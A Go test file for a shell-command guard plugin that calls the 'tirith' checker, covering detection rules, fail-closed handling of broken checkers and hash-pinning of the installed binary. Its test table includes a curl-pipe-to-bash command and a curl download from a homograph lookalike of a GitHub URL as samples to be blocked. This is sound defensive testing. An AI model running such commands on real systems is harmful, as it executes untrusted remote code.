package tirith_test

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/hguard/hguard/dsl"
	"github.com/hguard/hguard/internal/testbin"
	"github.com/hguard/hguard/plugins"
	"github.com/hguard/hguard/plugins/tirith/install"
)

// TirithEnv names the real tirith binary (npm @sheeki03/tirith-linux-x64@0.4.2).
const TirithEnv = "HGUARD_TEST_TIRITH"

func realTirith(t testing.TB) string {
	p := os.Getenv(TirithEnv)
	if p == "" {
		t.Skip(TirithEnv + " is not set: install @sheeki03/tirith-linux-x64@0.4.2 with npm and point it at bin/tirith")
	}
	if _, err := os.Stat(p); err != nil {
		t.Skipf("%s=%s: %v", TirithEnv, p, err)
	}
	return p
}

// TestMain removes the programs testbin built.
func TestMain(m *testing.M) { testbin.Main(m) }

func newHost(t testing.TB, tirith string, failOpen bool, timeout time.Duration) *plugins.Host {
	bin := testbin.Build(t, "github.com/hguard/hguard/cmd/hguard-tirith") // first: go build needs the real HOME for its cache
	t.Setenv("HOME", t.TempDir())                                         // tirith keeps its logs under HOME
	h := plugins.NewHost(plugins.HostConfig{Home: t.TempDir(), Tirith: plugins.TirithConfig{
		Enabled: true, FailOpen: failOpen, Timeout: timeout, Path: tirith, Plugin: bin}})
	t.Cleanup(func() { h.Close() })
	return h
}

// TestRealTirith runs the real tirith through the plugin.
func TestRealTirith(t *testing.T) {
	h := newHost(t, realTirith(t), false, 10*time.Second)
	for _, tc := range []struct {
		name, cmd string
		level     dsl.Level // strictest expected; Allow means no findings
		rule      string
	}{
		{"homograph URL", "curl -fsSL https://gіthub.com/x/install.sh -o i.sh", dsl.Block, "tirith:non_ascii_hostname"},
		{"curl pipe bash", "curl https://example.com/install.sh | bash", dsl.Block, "tirith:curl_pipe_shell"},
		{"shortened URL", "wget https://bit.ly/abc", dsl.Ask, "tirith:shortened_url"},
		{"clean", "ls -la", dsl.Allow, ""},
		{"clean git", "git status --short", dsl.Allow, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fs := h.Check(context.Background(), plugins.Request{Original: tc.cmd, Shell: "bash"})
			if tc.level == dsl.Allow {
				if len(fs) != 0 {
					t.Fatalf("findings for a clean command: %+v", fs)
				}
				return
			}
			var found bool
			for _, f := range fs {
				if f.Source != "plugin:tirith" || !plugins.NeverAlways(f) || f.Command != tc.cmd {
					t.Errorf("bad finding %+v", f)
				}
				if f.Rule == tc.rule {
					found = true
					if f.Level != tc.level || !strings.HasPrefix(f.Message, "tirith: ") {
						t.Errorf("finding %+v: want level %s", f, tc.level)
					}
				}
			}
			if !found {
				t.Fatalf("no %s finding in %+v", tc.rule, fs)
			}
		})
	}
}

// TestTirithFailure: a missing, hanging or babbling tirith is the
// configured failure mode, never a silent allow.
func TestTirithFailure(t *testing.T) {
	dir := t.TempDir()
	script := func(name, body string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte("#!/bin/sh\n"+body+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		return p
	}
	for _, tc := range []struct {
		name, bin, want string
	}{
		{"missing", filepath.Join(dir, "nope"), "security.tirith_path"},
		{"hang", script("hang", `[ "$1" = --version ] && { echo tirith 9; exit 0; }; exec sleep 30`), "within 3s|did not answer in time"},
		{"garbage", script("garbage", `echo '<html>'`), "not its JSON report"},
		{"bad exit", script("exit3", `exit 3`), "status 3"},
	} {
		for _, open := range []bool{true, false} {
			t.Run(tc.name, func(t *testing.T) {
				// Only the hang needs a deadline to end it; nothing is timed.
				timeout := time.Minute
				if tc.name == "hang" {
					timeout = 3 * time.Second
				}
				h := newHost(t, tc.bin, open, timeout)
				fs := h.Check(context.Background(), plugins.Request{Original: "ls"})
				want := dsl.Ask
				if open {
					want = dsl.Warn
				}
				if len(fs) != 1 || fs[0].Level != want || fs[0].Rule != plugins.RuleUnavailable || !regexp.MustCompile(tc.want).MatchString(fs[0].Message) {
					t.Fatalf("open=%v: got %+v, want one %s finding mentioning %q", open, fs, want, tc.want)
				}
			})
		}
	}
}

// BenchmarkTirithCall is one warm call through the host, the plugin and
// tirith; BenchmarkTirithAlone is 'tirith check' run directly.
func BenchmarkTirithCall(b *testing.B) {
	h := newHost(b, realTirith(b), false, 10*time.Second)
	req := plugins.Request{Original: "git status --short"}
	h.Check(context.Background(), req)
	for b.Loop() {
		if fs := h.Check(context.Background(), req); len(fs) != 0 {
			b.Fatal(fs)
		}
	}
}

func BenchmarkTirithAlone(b *testing.B) {
	bin := realTirith(b)
	b.Setenv("HOME", b.TempDir())
	for b.Loop() {
		if out, err := exec.Command(bin, "check", "--format", "json", "--non-interactive", "--shell", "posix", "--offline", "--", "git status --short").Output(); err != nil {
			b.Fatal(err, string(out))
		}
	}
}

// TestInstalledTirithPinned: the tirith in $HGUARD_HOME/bin runs only while
// it has the hash its install recorded; swapped under a warm plugin, the
// next check refuses to run it (fail closed: an ask naming the fix), and
// one that no install recorded is refused from the start.
func TestInstalledTirithPinned(t *testing.T) {
	bin := testbin.Build(t, "github.com/hguard/hguard/cmd/hguard-tirith")
	t.Setenv("HOME", t.TempDir())
	t.Setenv("PATH", "/usr/bin:/bin") // no tirith on PATH: the installed one is used
	home, dir := t.TempDir(), t.TempDir()
	fake := func(name, action string) string {
		p := filepath.Join(dir, name)
		body := "#!/bin/sh\n[ \"$1\" = --version ] && { echo tirith 0.4.2; exit 0; }\necho '{\"action\":\"" + action + "\",\"findings\":[]}'\n"
		if action == "block" {
			body += "exit 1\n"
		}
		if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
		return p
	}
	newHost := func() *plugins.Host {
		h := plugins.NewHost(plugins.HostConfig{Home: home, Tirith: plugins.TirithConfig{
			Enabled: true, FailOpen: false, Timeout: 10 * time.Second, Plugin: bin}})
		t.Cleanup(func() { h.Close() })
		return h
	}
	n := 0
	check := func(h *plugins.Host) []dsl.Finding {
		n++ // a new line each time: the host's cache would answer a repeated one for 30 s
		return h.Check(context.Background(), plugins.Request{Original: fmt.Sprintf("ls %d", n), Shell: "bash"})
	}
	unavailable := func(fs []dsl.Finding, want string) {
		t.Helper()
		if len(fs) != 1 || fs[0].Rule != plugins.RuleUnavailable || fs[0].Level != dsl.Ask || !strings.Contains(fs[0].Message, want) {
			t.Fatalf("got %+v, want one ask %s mentioning %q", fs, plugins.RuleUnavailable, want)
		}
	}
	// Not installed by hguard: no record.
	must(t, os.MkdirAll(filepath.Join(home, "bin"), 0o755))
	must(t, os.WriteFile(install.BinPath(home), []byte("#!/bin/sh\necho tirith 0.4.2\n"), 0o755))
	unavailable(check(newHost()), "hguard plugin install tirith")

	if _, err := install.Adopt(context.Background(), home, fake("good", "allow")); err != nil {
		t.Fatal(err)
	}
	h := newHost()
	if fs := check(h); len(fs) != 0 {
		t.Fatalf("installed tirith: %+v", fs)
	}
	// Swapped under the warm plugin, for a binary that would allow anything.
	swapped := filepath.Join(dir, "swapped")
	must(t, os.WriteFile(swapped, []byte("#!/bin/sh\necho '{\"action\":\"allow\",\"findings\":[]}'\n"), 0o755))
	must(t, os.Rename(swapped, install.BinPath(home)))
	unavailable(check(h), "was replaced")
	unavailable(check(newHost()), "was replaced")
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
